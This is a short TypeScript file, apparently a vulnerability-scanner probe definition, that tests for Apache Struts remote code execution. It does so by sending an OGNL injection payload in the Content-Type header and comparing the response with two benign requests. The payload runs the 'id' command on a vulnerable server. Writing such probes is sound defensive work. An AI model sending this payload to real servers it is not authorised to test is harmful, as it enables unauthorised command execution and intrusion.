import { type Proof, get, proof } from '#tags/proof/sketch.ts'

const ognl = '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd=id)}'

export const proofs: readonly Proof[] = [
  proof('struts-rce', get('/', { contentType: ognl }), [
    get('/', { contentType: 'text/html' }),
    get('/index.action?member=1'),
  ]),
]
